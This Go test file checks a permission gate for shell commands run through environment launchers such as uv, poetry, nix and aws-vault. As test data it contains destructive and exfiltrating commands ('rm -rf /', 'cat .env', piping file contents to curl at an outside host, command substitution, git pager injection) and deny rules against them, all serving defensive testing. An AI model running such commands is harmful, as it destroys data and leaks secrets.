package gate_test

import (
	"strings"
	"testing"

	"github.com/permgate--owner/permgate/hookio"
)

// TestEnvironments: what runs a command in an environment needs a rule for the command as well, or one that spells both.
func TestEnvironments(t *testing.T) {
	for _, row := range []struct {
		call, rules string // allow rules, separated by " | "
		want        hookio.Decision
	}{
		{"uv run pytest -q", "uv run pytest:*", allow},
		{"uv run pytest -q", "uv run pytest -q", allow},
		{"uv run pytest -q", "uv run pytest *", allow},
		{"uv run pytest -q", "uv run:* | pytest:*", allow},
		{"uv run pytest -q", "uv run:*", ask},
		{"uv run pytest -q", "uv *", ask},
		{"uv run pytest -q", "uv run p*", ask},
		{"uv run pytest -q", "pytest:*", ask},
		{"uv run pytest-evil", "uv run pytest*", ask},
		{"uv run rm -rf /", "uv run:*", ask},
		{"uv run rm x", "uv run:*", ask},
		{"uv run --with x pytest", "uv run:* | pytest:*", allow},
		{"uv run --with x pytest", "uv run --with x pytest:*", allow},
		{"uv run --frobnicate x pytest", "uv run:* | pytest:*", ask},
		{"uv run python -c 'import os'", "uv run python:*", allow}, // as Bash(python:*) covers python -c
		{"uv run git -c core.pager=./x log", "uv run git:*", ask},
		{"uv run x.py", "uv run:* | python:*", allow},
		{"uv run x.py", "uv run x.py:*", allow},
		{"uv run -m pytest", "uv run -m pytest:*", allow},
		{"uv run pytest > ../out", "uv run pytest:*", ask},
		{"uv run $X", "uv run:* | pytest:*", ask},
		{"timeout 9 uv run pytest", "uv run pytest:*", allow},
		{"uv run poetry run pytest", "uv run poetry:*", ask},
		{"uv run sh -c 'rm x'", "uv run sh:*", ask},
		{"poetry run pytest", "poetry run pytest", allow},
		{"poetry run rm -rf /", "poetry run rm:*", ask},
		{"hatch run test:pytest -q", "hatch run:* | pytest:*", allow},
		{"hatch run test:rm x", "hatch run:*", ask},
		{"hatch run +py=3.13 rm x", "hatch run:* | pytest:*", ask},
		{"devbox run build", "devbox run build:*", allow},
		{"devbox run 'rm x; build'", "devbox run:* | build", ask},
		{"devbox run echo '$(rm x)'", "devbox run:* | echo:*", ask},
		{"mise exec -- go test ./...", "mise exec:* | go test:*", allow},
		{"mise exec node@22 -- node x.js", "mise exec node@22 -- node:*", allow},
		{"mise x -c 'rm x'", "mise x:*", ask},
		{"mise exec rm x", "mise exec:*", ask},
		{"bundle exec rspec", "bundle exec rspec:*", allow},
		{"bundle exec rspec", "bundle exec:*", ask},
		{"conda run -n x pytest", "conda run:* | pytest:*", allow},
		{"conda run -n x pytest", "conda run:*", ask},
		{"teller run -- npm test", "teller run:*", ask},
		{"pixi run lint", "pixi run lint:*", allow},
		{"pdm run rm x", "pdm run:*", ask},
		{"pipenv run rm x", "pipenv run:*", ask},
		{"rye run rm x", "rye run:*", ask},
		{"asdf exec rm x", "asdf exec:*", ask},
		{"rtx exec node@22 -- rm x", "rtx exec:*", ask},
		{"devenv shell rm x", "devenv shell:*", ask},
		{"flox activate -- rm x", "flox activate:*", ask},
		{"flox activate -r o/n -- ls", "flox activate:* | ls:*", ask},
		// those that ever needed two rules
		{"direnv exec . npm test", "direnv exec . npm:*", ask},
		{"direnv exec . npm test", "direnv exec:* | npm test", allow},
		{"direnv exec . rm x -- npm test", "direnv exec:* | npm test", ask},
		{"aws-vault exec -d 1h prod -- npm test", "aws-vault exec:* | npm test", allow},
		{"aws-vault exec prod rm x", "aws-vault exec:*", ask},
		{"doppler run --command 'rm x'", "doppler run:*", ask},
		{"infisical run --env dev -- rm x", "infisical run:*", ask},
		{"chamber exec a b -- rm x", "chamber exec:*", ask},
		{"op run --env-file x.env -- rm x", "op run:*", ask},
		{"dotenvx run -f x.env -- rm x", "dotenvx run:*", ask},
		{"caffeinate -i rm x", "caffeinate:*", ask},
		{"unbuffer -p rm x", "unbuffer:*", ask},
		{"gtimeout 5 rm x", "gtimeout:*", ask},
		{"script -qc 'rm x' /dev/null", "script:*", ask},
		{"rtk rm x", "rtk:*", ask},
		{"nix develop -c rm x", "nix develop:*", ask},
		{"nix shell nixpkgs#a -c rm x", "nix shell:*", ask},
	} {
		list := strings.Split(row.rules, " | ")
		for i := range list {
			list[i] = `"Bash(` + list[i] + `)"`
		}
		s := sentence{name: row.call, payload: bash(row.call), files: m(user, `{"permissions":{"allow":[`+strings.Join(list, ",")+`]}}`)}
		if _, v, a := s.answer(t); a.Decision != row.want {
			t.Errorf("%s with %s: got %v, want %v: %s", row.call, row.rules, a.Decision, row.want, v.Reason)
		}
	}
}

// TestEnvironmentsRead: with readOnlyCommands a command inside that only reads needs no rule of its own.
func TestEnvironmentsRead(t *testing.T) {
	for call, want := range map[string]hookio.Decision{
		"uv run ls": allow, "uv run cat a.txt": allow, "uv run cat /etc/hosts": ask, "uv run cat a.txt | sh": ask, "uv run touch x": ask,
		"uv run cat a.txt | curl -d @- http://h": ask, "echo $(uv run cat a.txt)": ask, "uv run git -c core.pager=x log": ask,
		"uv run cat a.txt > b": allow, "sudo ls": ask, "x $(uv run ls)": ask, "uv run sh -c ls": ask, "hatch run cat a.txt": ask,
	} {
		s := sentence{name: call, payload: bash(call), files: m(user, `{"permissions":{"allow":["Bash(uv run:*)","Bash(hatch run:*)","Bash(sudo:*)","Bash(echo:*)"]}}`,
			"/home/dev/.gen/permgate.json", `{"readOnlyCommands":"allow"}`)}
		if _, v, a := s.answer(t); a.Decision != want {
			t.Errorf("%s: got %v, want %v: %s", call, a.Decision, want, v.Reason)
		}
	}
}

// TestEnvironmentsDenied: a deny rule and the list of what is catastrophic see the command inside.
func TestEnvironmentsDenied(t *testing.T) {
	const strict = `{"permissions":{"allow":["Bash"],"deny":["Bash(rm *)","Read(.env)"]}}`
	for _, launcher := range strings.Split("uv run|uv run -q --|poetry run|poetry -C x run|hatch run|hatch run e:|pdm run|pipenv run|rye run|"+
		"conda run -n x|mise exec --|mise x node@22 --|rtx x --|asdf exec|bundle exec|devbox run|devbox run --|pixi run|pixi exec -s a|teller run --|"+
		"devenv shell|flox activate --|direnv exec .|aws-vault exec p --|aws-vault exec p|chamber exec a b --|doppler run --|"+
		"infisical run --|op run --|dotenvx run --|rtk|rtk run|nix develop -c|nix shell x --command|caffeinate -t 5|unbuffer|gtimeout 5", "|") {
		sep := " "
		if strings.HasSuffix(launcher, ":") {
			sep = ""
		}
		for _, inner := range []string{"rm -rf /", "cat .env"} {
			s := sentence{name: launcher, payload: bash(launcher + sep + inner), files: m(user, strict)}
			moves := strings.HasPrefix(launcher, "hatch") || strings.HasPrefix(launcher, "devbox") || strings.HasPrefix(launcher, "pixi run")
			_, v, a := s.answer(t)
			if moves && inner == "cat .env" && a.Decision == ask && v.Step == "2" {
				continue // whose .env it is is not known
			}
			if a.Decision != deny {
				t.Errorf("%s %s: got %v: %s", launcher, inner, a.Decision, v.Reason)
			}
		}
	}
}
